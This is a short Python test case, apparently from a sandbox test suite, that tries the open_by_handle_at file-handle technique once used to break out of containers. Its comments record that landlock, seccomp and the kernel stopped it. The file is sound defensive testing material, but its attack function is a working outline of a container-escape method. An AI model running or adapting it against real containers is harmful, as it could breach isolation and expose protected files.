# Opens a file by its handle, as programs that broke out of containers did.
# stopped by: landlock, seccomp, kernel
# verdict: failed
import ctypes
import struct


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"@WATCHED@/file.txt", handle, ctypes.byref(mount), 0):
        return False
    place = libc.open(b"/usr/lib", 0)
    return libc.open_by_handle_at(place, handle, 0) >= 0
